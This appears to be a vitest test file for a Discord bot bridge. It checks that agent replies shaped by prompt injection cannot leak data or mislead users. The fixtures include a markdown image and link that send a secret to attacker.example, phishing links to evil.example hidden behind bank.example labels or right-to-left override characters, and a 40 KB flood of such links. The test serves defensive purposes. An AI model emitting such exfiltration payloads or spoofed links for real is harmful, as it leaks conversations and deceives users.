import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { mention, messageCreates, startDiscordBridge, type DiscordHarness } from './harness.js';
import type { Json } from '../emulators/discord/index.js';

/**
 * The agent's reply is untrusted text: a prompt injection in a forwarded message, file or page
 * can write it. What the bot posts on Discord must not leak the conversation to a server the
 * attacker names (link previews are fetched by Discord with no click), nor show one address
 * while opening another. The agent emulator answers with such a reply; the assertions are on
 * what the Discord emulator was sent and stored.
 */
const SECRET = 'the-quarterly-numbers-are-42';
const EXFIL = `Done! ![status](https://attacker.example/pixel.png?d=${SECRET}) and [ok](https://attacker.example/?q=${SECRET})`;
const MASKED = [
  'Log in at [https://bank.example/login](https://evil.example/phish) to confirm.',
  'Or [`bank.example`](https://evil.example/code) or [\u202Elpmaxe.knab](https://evil.example/rtl).',
  'Fine: [the docs](https://docs.example/guide) and [docs.example](https://docs.example/x).',
  'Bare: https://evil.example/\u202Eelpmaxe.knab and [help](https://evil.example/\u202Eknab).',
].join('\n\n');

/** ~40 KB of misleading links between brackets, parentheses and backticks: rendered in one pass, every message flagged. */
const FLOOD = Array.from({ length: 600 }, (_, i) => `[https://bank.example/${i}](https://evil.example/${i}) ((( [[ \`x\` ]] `).join('\n');

let h: DiscordHarness;
beforeAll(async () => {
  h = await startDiscordBridge({
    // The flood's 21 messages all posted (the default cuts a reply at 10).
    env: { MAX_REPLY_CHUNKS: '30' },
    agent: { reply: (_instanceId, message) => (message.includes('EXFIL') ? EXFIL : message.includes('MASKED') ? MASKED : message.includes('FLOOD') ? FLOOD : `echo: ${message}`) },
  });
});
afterAll(async () => {
  await h?.close();
});

const w = () => h.discord.world;
const ask = async (text: string): Promise<Json> => {
  const m = h.discord.sendMessage({ author: w().users.alice, channel: w().channels.general, content: `${mention(h.discord)} ${text}` });
  return h.discord.waitFor(() => h.discord.repliesTo(m.id)[0], `reply to ${text}`);
};
const SUPPRESS_EMBEDS = 1 << 2;

describe('a hostile agent reply on Discord', () => {
  it('is posted with SUPPRESS_EMBEDS, so Discord fetches none of its links', async () => {
    const reply = await ask('EXFIL please');
    expect(reply.content).toContain(SECRET);
    expect(Number(reply.flags) & SUPPRESS_EMBEDS).toBe(SUPPRESS_EMBEDS);
    const sent = messageCreates(h.discord, w().channels.general.id).find((b) => String(b.content).includes(SECRET));
    expect(sent?.flags).toBe(SUPPRESS_EMBEDS);
    // The emulator, as Discord, fetches no link of such a message for a preview.
    expect(() => h.discord.unfurl(reply, [{ type: 'link', url: 'https://attacker.example/' }])).toThrow(/SUPPRESS_EMBEDS/);
  });

  it('shows the real target next to a label that names another address', async () => {
    const reply = await ask('MASKED please');
    const content = String(reply.content);
    expect(content).toContain('https://bank.example/login (<https://evil.example/phish>)');
    expect(content).toContain('`bank.example` (<https://evil.example/code>)');
    expect(content).toContain('lpmaxe.knab (<https://evil.example/rtl>)');
    expect(content).not.toMatch(/[\u202A-\u202E\u2066-\u2069]/);
    expect(content).not.toMatch(/\]\(https:\/\/evil\.example\/(phish|code|rtl)/);
    expect(content).toContain('Bare: https://evil.example/%E2%80%AEelpmaxe.knab and [help](https://evil.example/%E2%80%AEknab)');
    // Labels of plain words, or of the site the link opens, stay masked links.
    expect(content).toContain('[the docs](https://docs.example/guide)');
    expect(content).toContain('[docs.example](https://docs.example/x)');
    expect(Number(reply.flags) & SUPPRESS_EMBEDS).toBe(SUPPRESS_EMBEDS);
  });

  it('a 40 KB one is posted whole, every message with SUPPRESS_EMBEDS and no misleading link', async () => {
    expect(FLOOD.length).toBeGreaterThan(39_000);
    const first = await ask('FLOOD please');
    const posted = await h.discord.waitFor(() => {
      const mine = h.discord.botMessages(w().channels.general.id).filter((m) => BigInt(String(m.id)) >= BigInt(String(first.id)));
      return mine.some((m) => String(m.content).includes('https://evil.example/599>')) ? mine : undefined;
    }, 'the whole flood posted', 30_000);
    expect(posted.length).toBeGreaterThan(1);
    for (const m of posted) {
      expect(Number(m.flags) & SUPPRESS_EMBEDS).toBe(SUPPRESS_EMBEDS);
      expect(String(m.content)).not.toContain('](https://evil.example');
    }
  }, 40_000);

  it('a give-up notice quoting the agent service is flagged and unmasked too', async () => {
    h.agent.failNext(1, { status: 409, body: { error: 'instance is stopped, see [https://status.example](https://evil.example/notice)' } });
    const notice = await ask('NOTICE please');
    expect(String(notice.content)).toContain('https://status.example (<https://evil.example/notice>)');
    expect(Number(notice.flags) & SUPPRESS_EMBEDS).toBe(SUPPRESS_EMBEDS);
  });
});

describe('the Discord emulator and message flags', () => {
  const create = (flags: unknown) =>
    fetch(`${h.discord.apiUrl}/v10/channels/${w().channels.general.id}/messages`, {
      method: 'POST',
      headers: { authorization: `Bot ${h.discord.token}`, 'content-type': 'application/json' },
      body: JSON.stringify({ content: 'flag check', flags }),
    });

  it('refuses a flag a bot may not set on create, as Discord does', async () => {
    const res = await create(1 << 6);
    expect(res.status).toBe(400);
    expect(await res.json()).toMatchObject({ code: 50035, errors: { flags: { _errors: [{ code: 'MESSAGE_FLAGS_INVALID' }] } } });
  });

  it('stores the settable flags a create asks for', async () => {
    const res = await create(SUPPRESS_EMBEDS | (1 << 12));
    expect(res.status).toBe(200);
    expect(((await res.json()) as Json).flags).toBe(SUPPRESS_EMBEDS | (1 << 12));
  });
});
